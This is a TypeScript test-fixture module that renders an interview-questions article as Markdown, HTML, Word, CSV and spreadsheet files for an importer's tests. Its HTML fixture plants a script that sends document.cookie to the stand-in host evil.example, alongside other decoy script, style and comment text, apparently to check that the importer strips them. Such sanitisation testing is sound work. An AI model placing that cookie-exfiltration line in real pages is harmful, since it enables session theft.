// Test fixtures written from code: a plain-text article of the seed family as Markdown, as an HTML page
// (with a script, a style and a comment that must vanish), as a Word document, and its entries as CSV and
// .xlsx rows. Used by the unit, integration and browser tests; nothing binary is checked in.
import { stringify } from "csv-stringify/sync";
import { Document, HeadingLevel, Packer, Paragraph, TextRun } from "docx";
import ExcelJS from "exceljs";
import type { ImportCandidate } from "../prepare-import";

type Block = { kind: "title" | "question" | "label" | "text"; label?: string; body: string };

const LABEL = /^(How to Answer:|Example:)\s*/;

/** The article's paragraphs: blank-line separated, or one a line when it has no blank lines. */
export function articleBlocks(text: string): Block[] {
  const lines = text.replace(/\r\n?/g, "\n").split("\n");
  const blankSeparated = lines.some((l) => l.trim() === "");
  const paragraphs = blankSeparated
    ? text.split(/\n\s*\n/).map((p) => p.split("\n").map((l) => l.trim()).join(" ").trim())
    : lines.map((l) => l.trim());
  return paragraphs
    .filter((p) => p !== "")
    .map((p): Block => {
      const label = LABEL.exec(p);
      if (label) return { kind: "label", label: label[1]!, body: p.slice(label[0].length) };
      if (/^\d{1,3}\.\s/.test(p)) return { kind: "question", body: p };
      if (/^\d{1,3} .*interview questions/i.test(p)) return { kind: "title", body: p };
      return { kind: "text", body: p };
    });
}

export function articleToMarkdown(text: string): string {
  return articleBlocks(text)
    .map((b) => {
      if (b.kind === "title") return `# ${b.body}`;
      if (b.kind === "question") return `## ${b.body}`;
      if (b.kind === "label") return `**${b.label}** ${b.body}`;
      return b.body.replace(/([*_`\\])/g, "\\$1");
    })
    .join("\n\n");
}

const escapeHtml = (text: string) =>
  text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/\u2019/g, "&rsquo;");

/** A saved web page: the article between a script, a style, a comment and site chrome that must vanish. */
export function articleToHtml(text: string): string {
  const body = articleBlocks(text).map((b) => {
    if (b.kind === "title") return `<h1>${escapeHtml(b.body)}</h1>`;
    if (b.kind === "question") return `<h2 class="q">${escapeHtml(b.body)}</h2>`;
    if (b.kind === "label") return `<p><strong>${b.label}</strong> ${escapeHtml(b.body)}</p>`;
    return `<p>${escapeHtml(b.body)}</p>`;
  });
  return [
    "<!doctype html>",
    "<html><head><meta charset=\"utf-8\"><title>Saved article</title>",
    "<style>p { color: red } .evil::after { content: 'How to Answer: styled' }</style>",
    "<script>window.stolen = document.cookie; document.write('Example: injected');</script>",
    "</head><body>",
    "<!-- How to Answer: a comment that is not content -->",
    ...body.slice(0, 1),
    '<script type="module">fetch("https://evil.example/?c=" + document.cookie)</script>',
    ...body.slice(1),
    '<noscript>Example: "enable JavaScript"</noscript>',
    "</body></html>",
  ].join("\n");
}

export async function articleToDocx(text: string): Promise<Uint8Array> {
  const children = articleBlocks(text).map((b) => {
    if (b.kind === "title") return new Paragraph({ heading: HeadingLevel.HEADING_1, children: [new TextRun(b.body)] });
    if (b.kind === "question") return new Paragraph({ heading: HeadingLevel.HEADING_2, children: [new TextRun(b.body)] });
    if (b.kind === "label") return new Paragraph({ children: [new TextRun({ text: b.label!, bold: true }), new TextRun(` ${b.body}`)] });
    return new Paragraph({ children: [new TextRun(b.body)] });
  });
  const buffer = await Packer.toBuffer(new Document({ sections: [{ children }] }));
  return new Uint8Array(buffer);
}

export const SHEET_HEADERS = ["Question", "What it assesses", "Guidance", "Example", "Competencies"];

/** The entries as spreadsheet rows; the competencies column left empty so they are suggested as for the article. */
export function entriesToRows(entries: readonly Pick<ImportCandidate, "text" | "assesses" | "howToAnswer" | "exampleAnswer">[]): string[][] {
  return entries.map((e) => [e.text ?? "", e.assesses, e.howToAnswer, e.exampleAnswer, ""]);
}

export function rowsToCsv(rows: string[][], headers = SHEET_HEADERS): string {
  return stringify([headers, ...rows]);
}

export async function rowsToXlsx(rows: string[][], headers = SHEET_HEADERS): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet("Questions");
  sheet.addRow(headers);
  for (const row of rows) sheet.addRow(row);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}
